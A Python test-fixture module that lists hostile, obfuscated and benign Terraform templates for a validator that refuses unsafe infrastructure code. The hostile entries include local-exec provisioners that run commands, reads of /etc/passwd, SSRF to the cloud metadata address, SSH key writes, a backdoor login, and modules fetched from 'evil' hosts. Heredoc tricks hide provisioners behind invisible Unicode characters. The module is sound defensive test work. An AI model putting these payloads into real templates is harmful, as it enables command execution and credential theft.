"""Templates that must be refused before any program sees them, by name; and templates
that people do write."""

from __future__ import annotations

V = 'resource "alicloud_vpc" "v" {\n  cidr_block = %s\n}\n'
HOSTILE: dict[str, str] = {
    "external data": 'data "external" "x" {\n  program = ["sh", "-c", "id"]\n}\n',
    "http data": 'data "http" "x" {\n  url = "http://169.254.169.254/"\n}\n',
    "remote state": 'data "terraform_remote_state" "x" {\n  backend = "http"\n}\n',
    "local file data": 'data "local_file" "x" {\n  filename = "/etc/passwd"\n}\n',
    "template file data": 'data "template_file" "x" {\n  template = "x"\n}\n',
    "data of an alicloud type that is not listed": 'data "alicloud_ram_users" "x" {}\n',
    "data that writes a file": (
        'data "alicloud_zones" "z" {\n  output_file = "/root/.ssh/authorized_keys"\n}\n'
    ),
    "null resource": 'resource "null_resource" "x" {}\n',
    "local file": 'resource "local_file" "x" {\n  filename = "/tmp/x"\n  content = "x"\n}\n',
    "another cloud": 'resource "aws_instance" "x" {}\n',
    "a credential": 'resource "alicloud_ram_access_key" "x" {\n  secret_file = "/tmp/k"\n}\n',
    "a sign-in": (
        'resource "alicloud_ram_login_profile" "x" {\n  user_name = "backdoor"\n  password ='
        ' "Passw0rd12"\n}\n'
    ),
    "local-exec": (
        'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "id"\n '
        " }\n}\n"
    ),
    "remote-exec": (
        'resource "alicloud_vpc" "x" {\n  provisioner "remote-exec" {\n    inline = ["id"]\n '
        " }\n}\n"
    ),
    "connection": 'resource "alicloud_vpc" "x" {\n  connection {\n    host = "h"\n  }\n}\n',
    "provisioner on one line": (
        'resource "terraform_data" "x" { provisioner "local-exec" { command = "id" } }\n'
    ),
    "provisioner behind a comment": (
        'resource "terraform_data" "x" {\n  /* */ provisioner "local-exec" {\n command = "id"\n'
        " }\n}\n"
    ),
    "provisioner in dynamic": (
        'resource "terraform_data" "x" {\n  dynamic "d" {\n    content {\n      provisioner'
        ' "local-exec" {\n        command = "id"\n      }\n    }\n  }\n}\n'
    ),
    "provider block": 'provider "alicloud" {\n  access_key = "a"\n}\n',
    "required providers": (
        'terraform {\n  required_providers {\n    evil = { source = "evil/evil" }\n  }\n}\n'
    ),
    "backend": 'terraform {\n  backend "http" {\n    address = "http://evil"\n  }\n}\n',
    "cloud backend": 'terraform {\n  cloud {\n    organization = "evil"\n  }\n}\n',
    "module": 'module "m" {\n  source = "git::https://evil/m"\n}\n',
    "local module": 'module "m" {\n  source = "./m"\n}\n',
    "import block": 'import {\n  to = alicloud_vpc.v\n  id = "vpc-1"\n}\n',
    "moved block": "moved {\n  from = a.b\n  to = c.d\n}\n",
    "removed block": "removed {\n  from = alicloud_vpc.v\n}\n",
    "check block": (
        'check "c" {\n  assert {\n    condition = true\n    error_message = "x"\n  }\n}\n'
    ),
    "ephemeral": 'ephemeral "random_password" "p" {}\n',
    "file()": V % 'file("/etc/passwd")',
    "filebase64()": V % 'filebase64("/etc/passwd")',
    "templatefile()": V % 'templatefile("/etc/passwd", {})',
    "fileset()": V % 'join(",", fileset("/", "*"))',
    "fileexists()": V % 'fileexists("/etc/shadow") ? "a" : "b"',
    "pathexpand()": V % 'pathexpand("~/.ssh")',
    "templatestring()": V % 'templatestring("x", {})',
    "abspath()": V % 'abspath(".")',
    "timestamp()": V % "timestamp()",
    "uuid()": V % "uuid()",
    "bcrypt()": V % 'bcrypt("x", 31)',
    "range()": V % 'join(",", [for i in range(100000000) : i])',
    "rsadecrypt()": V % 'rsadecrypt("a", "b")',
    "a provider's function": V % 'provider::evil::run("id")',
    "file() with blanks": V % 'file   ("/etc/passwd")',
    "file() over lines": V % '(\n  file\n  ("/etc/passwd")\n)',
    "file() in a string": V % '"${file("/etc/passwd")}"',
    "file() in a string in a string": V % '"${"${file("/etc/passwd")}"}"',
    "file() in a directive": V % '"%{ if fileexists("/etc/passwd") }x%{ endif }"',
    "file() in a heredoc": V % '<<EOT\n${file("/etc/passwd")}\nEOT',
    "a heredoc that holds nothing bad": (
        'resource "alicloud_instance" "i" {\n  user_data = base64encode(<<-EOT\n    #!/bin/sh\n   '
        " echo $${HOME} ${var.region}\n    EOT\n  )\n}\n"
    ),
    "file() in an indented heredoc": V % '<<-EOT\n    ${file("/etc/passwd")}\n    EOT',
    "file() behind a comment": V % '/* x */ file /* y */ ("/etc/passwd")',
    "file() as a map key": 'locals {\n  x = { (file("/etc/passwd")) = 1 }\n}\n',
    "file() in an output": 'output "o" {\n  value = file("/etc/passwd")\n}\n',
    "file() in a default": 'variable "v" {\n  default = file("/etc/passwd")\n}\n',
    "path": V % '"${path.module}/x"',
    "path in brackets": V % 'path["module"]',
    "workspace": V % "terraform.workspace",
    "a thousand": 'resource "alicloud_vpc" "v" {\n  count = 1000\n}\n',
    "a count that is computed": 'resource "alicloud_vpc" "v" {\n  count = 10 * 10\n}\n',
    "a count from a variable": (
        'variable "n" {\n  default = 999\n}\nresource "alicloud_vpc" "v" {\n  count = var.n\n}\n'
    ),
    "a negative count": 'resource "alicloud_vpc" "v" {\n  count = -1\n}\n',
    "too many resources": "".join(f'resource "alicloud_vpc" "v{i}" {{}}\n' for i in range(41)),
    "prevent_destroy": (
        'resource "alicloud_vpc" "v" {\n  lifecycle {\n    prevent_destroy = true\n  }\n}\n'
    ),
    "a condition": (
        'resource "alicloud_vpc" "v" {\n  lifecycle {\n    precondition {\n      condition = true\n'
        "    }\n  }\n}\n"
    ),
    "a provider for a resource": 'resource "alicloud_vpc" "v" {\n  provider = alicloud.other\n}\n',
    "a provider for data": 'data "alicloud_zones" "z" {\n  provider = alicloud.other\n}\n',
    "a variable nobody gives": 'variable "v" {\n  type = string\n}\n',
    "the platform's variable": 'variable "region" {\n  default = "x"\n}\n',
    "a validation": 'variable "v" {\n  default = 1\n  validation {\n    condition = true\n  }\n}\n',
    "a sensitive file in depends_on": (
        'resource "alicloud_vpc" "v" {\n  depends_on = [file("/x")]\n}\n'
    ),
    "twice the same": 'resource "alicloud_vpc" "v" {}\nresource "alicloud_vpc" "v" {}\n',
    "a label with a template": 'resource "alicloud_vpc" "${file("/x")}" {}\n',
    "a type with a template": 'resource "${"null_resource"}" "x" {}\n',
    "an escaped type": 'resource "null\\u005fresource" "x" {}\n',
    "an argument outside": "x = 1\n",
    "not closed": 'resource "alicloud_vpc" "v" {\n',
    "a string that is not closed": V % '"abc',
    "a comment that is not closed": "/* " + V % '"a"',
    "a heredoc that is not closed": V % "<<EOT\nabc\n",
    "brackets that cross": V % "[(])",
    "deep brackets": V % ("[" * 200 + "]" * 200),
    "deep templates": V % ('"${' * 100 + "1" + '}"' * 100),
    "deep blocks": "".join("a {\n" for _ in range(200)),
    "a NUL": V % '"a\x00b"',
    "a right-to-left override": V % '"\u202eabc"',
    "too large": "# " + "x" * 70_000 + "\n",
    "too many tokens": "locals {\n  x = [" + "1," * 25_000 + "]\n}\n",
    "JSON": '{"resource": {"null_resource": {"x": {}}}}',
    "a shell": "$(id)\n",
    "a provisioner as an argument": (
        'resource "terraform_data" "x" {\n  provisioner = { "local-exec" = { command = "id" }'
        " }\n}\n"
    ),
    "a dynamic provisioner": (
        'resource "terraform_data" "x" {\n  dynamic "provisioner" {\n    for_each = [1]\n   '
        ' content {\n      command = "id"\n    }\n  }\n}\n'
    ),
    "a block where an argument is": (
        'resource "terraform_data" "x" {\n  input {\n    a = 1\n  }\n}\n'
    ),
    "an argument where a block is": (
        'resource "alicloud_instance" "i" {\n  data_disks = [{ size = 40 }]\n}\n'
    ),
    "a file as an object": (
        'resource "alicloud_oss_bucket_object" "o" {\n  bucket = "b"\n  key = "k"\n  source ='
        ' "/run/secrets/vault.key"\n}\n'
    ),
    "a key written to a file": (
        'resource "alicloud_ecs_key_pair" "k" {\n  key_file = "/root/.ssh/id"\n}\n'
    ),
    "a block that hides its arguments": (
        'resource "alicloud_vpc" "v" {\n  _ {\n    count = 1000\n  }\n}\n'
    ),
    "a provider as a block": 'resource "alicloud_vpc" "v" {\n  provider {\n    a = 1\n  }\n}\n',
    "a dynamic provider": (
        'resource "alicloud_vpc" "v" {\n  dynamic "provider" {\n    for_each = [1]\n    content {\n'
        "    }\n  }\n}\n"
    ),
    "an argument of Terraform's own": 'resource "alicloud_vpc" "v" {\n  locals = {}\n}\n',
    "self": V % "self.id",
    "a module's output": V % "module.m.x",
    "a name that is nothing": V % "nothing.at.all",
    "a value called as a root": 'locals {\n  x = [for path in ["a"] : path]\n}\n',
    "var alone": V % "jsonencode(var)",
    "data of another type": V % "data.external.x.result",
    "a template directive": V % '"%{ if true }x%{ endif }"',
    "a strip marker": V % '"${~ var.region ~}"',
    "marks that may be read in two ways": V % '"$$${file("/x")}"',
    "other marks that may be read in two ways": V % '"%$${file("/x")}"',
    "an unknown escape": V % '"\\x41"',
    "an escape that makes a line separator": V % '"\\u2028"',
    "half a character": V % '"\\ud800"',
    "an escape with a sign": V % '"\\u+041"',
    "a legacy index": V % "var.x.0",
    "a number with an exponent that is too large": V % "1e99999",
    "a conditional default": 'variable "v" {\n  default = true ? 1 : 2\n}\n',
    "a default with a call": 'variable "v" {\n  default = upper("a")\n}\n',
    "a type that is computed": 'variable "v" {\n  type = upper("a")\n  default = 1\n}\n',
    "an output twice": 'output "o" {\n  value = 1\n}\noutput "o" {\n  value = 2\n}\n',
    "a local twice": "locals {\n  x = 1\n}\nlocals {\n  x = 2\n}\n",
    "two lifecycles": 'resource "alicloud_vpc" "v" {\n  lifecycle {\n  }\n  lifecycle {\n  }\n}\n',
    "many operators": V % ("1" + " + 1" * 200),
    "many signs": V % ("!" * 5000 + "true"),
    "a byte order mark": "\ufeff" + V % '"a"',
    "two blocks on one line": "locals { x = 1 } locals { y = 1 }\n",
    "two arguments on one line": "locals { x = 1, y = 2 }\n",
    "an HTML page": "<html></html>\n",
}

_RUNS = '  provisioner "local-exec" {\n    command = "touch /tmp/owned"\n  }\n'
HIDDEN_BY: dict[str, str] = {
    "a no-break space": "\u00a0",
    "a next line": "\u0085",
    "a line separator": "\u2028",
    "a paragraph separator": "\u2029",
    "an ideographic space": "\u3000",
    "a thin space": "\u2009",
    "an Ogham space": "\u1680",
    "a zero width space": "\u200b",
    "a byte order mark": "\ufeff",
    "a carriage return": "\r",
    "a vertical tab": "\v",
    "a form feed": "\f",
    "nothing": "",
}
"""What Terraform takes for space around the mark that ends a heredoc, and others may
not."""
HIDDEN = {
    f"{what} behind {name}{where}": (
        template % {"before": space if where == "" else "", "after": space if where else ""}
    )
    for name, space in HIDDEN_BY.items()
    for where in ("", ", after the mark")
    for what, template in {
        "a provisioner": (
            'resource "terraform_data" "x" {\n  input = <<EOT\nharmless\n%(before)sEOT%(after)s\n'
            + _RUNS
            + '  triggers_replace = "\nEOT\n"\n}\n'
        ),
        "a file": (
            'output "x" {\n  value = join("", [<<EOT\nharmless\n%(before)sEOT%(after)s\n,'
            ' file("/etc/passwd"), <<EOT\nEOT\n])\n}\n'
        ),
        "a block": (
            'locals {\n  x = <<EOT\n%(before)sEOT%(after)s\n}\nresource "terraform_data" "x" {\n'
            + _RUNS
            + "  input = <<EOT\n\nEOT\n}\n"
        ),
    }.items()
}
"""Templates in which a heredoc that ends elsewhere than it seems to hides what runs a
command or reads a file."""

GOOD: dict[str, str] = {
    "nothing": "",
    "comments": "# a\n// b\n/* c\n d */\n",
    "one line": 'resource "alicloud_vpc" "v" { cidr_block = "10.0.0.0/8" }\n',
    "terraform_data": 'resource "terraform_data" "t" {\n  input = { a = 1 }\n}\n',
    "count": 'resource "alicloud_vpc" "v" {\n  count = 3\n  vpc_name = "v-${count.index}"\n}\n',
    "for_each": (
        'resource "alicloud_vpc" "v" {\n  for_each = toset(["a", "b"])\n  vpc_name = each.key\n}\n'
    ),
    "a for expression": (
        'locals {\n  x = [for i in (["a"]) : upper(i) if (i != "b")]\n  y = { for k, v in { a = 1 }'
        " : k => v... }\n}\n"
    ),
    "lines joined": (
        'resource "alicloud_instance" "i" {\n  user_data = base64encode(join("\\n", [\n   '
        ' "#!/bin/sh",\n    "echo $${HOME} ${var.region}",\n  ]))\n}\n'
    ),
    "escapes": 'locals {\n  x = "a\\"b\\\\ $${not} %%{not} \\u00e9"\n}\n',
    "a member called file": "locals {\n  x = local.y.file\n}\n",
    "an argument called path": 'locals {\n  path = "/a"\n}\n',
    "a conditional": 'locals {\n  x = var.region == "cn" ? 1 : -1\n}\n',
    "blocks": (
        'resource "alicloud_instance" "i" {\n  data_disks {\n    size = 40\n  }\n  timeouts {\n   '
        ' create = "5m"\n  }\n}\n'
    ),
    "dynamic": (
        'resource "alicloud_instance" "i" {\n  dynamic "data_disks" {\n    for_each = [40]\n   '
        " content {\n      size = data_disks.value\n    }\n  }\n}\n"
    ),
    "lifecycle": (
        'resource "alicloud_vpc" "v" {\n  lifecycle {\n    ignore_changes = [tags]\n  }\n}\n'
    ),
    "a typed variable": (
        'variable "v" {\n  type = object({ a = optional(list(string), []) })\n  default = {}\n}\n'
    ),
    "lines that end as on Windows": 'resource "alicloud_vpc" "v" {\r\n  vpc_name = "v"\r\n}\r\n',
    "words in Chinese": (
        '# 专有网络\nresource "alicloud_vpc" "v" {\n  description = "专有　网络 \\u00a0"\n}\n'
    ),
    "a splat": (
        'output "ids" {\n  value = alicloud_vpc.v[*].id\n}\nresource "alicloud_vpc" "v" {\n  count'
        " = 2\n}\n"
    ),
    "an iterator": (
        'resource "alicloud_instance" "i" {\n  dynamic "data_disks" {\n    for_each = [40]\n   '
        " iterator = disk\n    content {\n      size = disk.value\n    }\n  }\n}\n"
    ),
    "depends_on": (
        'resource "alicloud_vpc" "v" {\n  depends_on = [alicloud_vpc.w, data.alicloud_zones.z]\n}\n'
    ),
    "percent signs": 'locals {\n  x = format("%s%% $", 100)\n}\n',
    "data": 'data "alicloud_zones" "z" {\n  available_resource_creation = "VSwitch"\n}\n',
    "a sensitive output": 'output "o" {\n  value = "x"\n  sensitive = true\n}\n',
}
